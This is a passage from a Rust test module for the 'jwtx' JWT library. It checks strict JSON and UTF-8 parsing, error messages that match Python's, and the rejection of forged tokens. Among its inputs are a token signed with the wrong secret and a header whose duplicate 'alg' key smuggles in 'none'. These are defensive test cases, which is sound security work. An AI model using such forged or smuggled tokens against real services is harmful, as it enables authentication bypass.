                "Expecting property name enclosed in double quotes: line 1 column 2 (char 1)",
            ),
            (
                r#"{"a":1,}"#,
                "Expecting property name enclosed in double quotes: line 1 column 8 (char 7)",
            ),
            (r#"{"a":1} x"#, "Extra data: line 1 column 9 (char 8)"),
            (
                r#"{'a':1}"#,
                "Expecting property name enclosed in double quotes: line 1 column 2 (char 1)",
            ),
        ] {
            let e = codec()
                .verify::<NoClaims>(&hs(HS_HEADER, payload))
                .unwrap_err();
            assert_eq!(
                e.message(),
                format!("Invalid payload string: {msg}"),
                "{payload:?}"
            );
        }
        // Python's json would take NaN and Infinity; RFC 8259 (and jwtx) do not.
        for payload in [r#"{"sub":"a","x":NaN}"#, r#"{"sub":"a","x":-Infinity}"#] {
            assert!(matches!(
                codec()
                    .verify::<NoClaims>(&hs(HS_HEADER, payload))
                    .unwrap_err(),
                Error::Json {
                    segment: Segment::Payload,
                    ..
                }
            ));
        }
    }

    #[test]
    fn non_utf8_header_and_payload() {
        let header = b"{\"alg\":\"HS256\",\"x\":\"\xff\"}";
        let t = forge_with(Algorithm::HS256, header, claims().as_bytes(), SECRET);
        let e = jws_err(&t, &hs_set());
        assert!(
            matches!(
                &e,
                Error::Json {
                    segment: Segment::Header,
                    ..
                }
            ),
            "{e:?}"
        );
        // Python's exact text (flask-jwt-extended answers with it).
        assert_eq!(
            e.message(),
            "Invalid header string: 'utf-8' codec can't decode byte 0xff in position 20: invalid start byte"
        );
        let payload = b"{\"sub\":\"\xc0\xaf\",\"exp\":1}";
        let t = forge_with(Algorithm::HS256, HS_HEADER.as_bytes(), payload, SECRET);
        assert!(matches!(
            codec().verify::<NoClaims>(&t).unwrap_err(),
            Error::Json {
                segment: Segment::Payload,
                ..
            }
        ));
        // Overlong encodings, UTF-8-encoded surrogates and a BOM are all refused.
        for bad in [
            &b"{\"a\":\"\xc0\x80\"}"[..],
            b"{\"a\":\"\xed\xa0\x80\"}",
            b"\xef\xbb\xbf{}",
        ] {
            let t = forge_with(Algorithm::HS256, bad, claims().as_bytes(), SECRET);
            assert!(
                matches!(
                    jws_err(&t, &hs_set()),
                    Error::Json {
                        segment: Segment::Header,
                        ..
                    }
                ),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn non_utf8_messages_match_python() {
        // Python reports the *byte* offset and names the kind of UTF-8 error.
        let cases: [(&[u8], &str); 3] = [
            (
                b"{\"a\":\"\xc3\xa9\xff\"}",
                "'utf-8' codec can't decode byte 0xff in position 8: invalid start byte",
            ),
            (
                b"{\"a\":\"\xc3(\"}",
                "'utf-8' codec can't decode byte 0xc3 in position 6: invalid continuation byte",
            ),
            (
                b"{\"a\":\"\xe2\x82",
                "'utf-8' codec can't decode bytes in position 6-7: unexpected end of data",
            ),
        ];
        let mut wrong = Vec::new();
        for (header, python) in cases {
            let t = forge_with(Algorithm::HS256, header, claims().as_bytes(), SECRET);
            let got = jws_err(&t, &hs_set()).message();
            let want = format!("Invalid header string: {python}");
            if got != want {
                wrong.push(format!("  {header:?}\n    want {want}\n    got  {got}"));
            }
        }
        assert!(
            wrong.is_empty(),
            "messages differ from Python's:\n{}",
            wrong.join("\n")
        );
    }

    #[test]
    fn decode_unverified_never_trusts_but_still_parses_strictly() {
        // A forged token decodes (for display) but never verifies.
        let t = forge_with(
            Algorithm::HS256,
            HS_HEADER.as_bytes(),
            claims().as_bytes(),
            OTHER_SECRET,
        );
        let u = jwtx::dangerous::decode_unverified(&t, DEFAULT_MAX_TOKEN_LEN).unwrap();
        assert_eq!(u.claims["sub"], "alice");
        assert_eq!(jws_err(&t, &hs_set()), Error::InvalidSignature);
        // Its shape rules are the verifier's.
        let dup = hs(r#"{"alg":"HS256","alg":"none"}"#, &claims());
        assert!(matches!(
            jwtx::dangerous::decode_unverified(&dup, DEFAULT_MAX_TOKEN_LEN),
            Err(Error::Json {
                segment: Segment::Header,
                ..
            })
        ));
    }
}
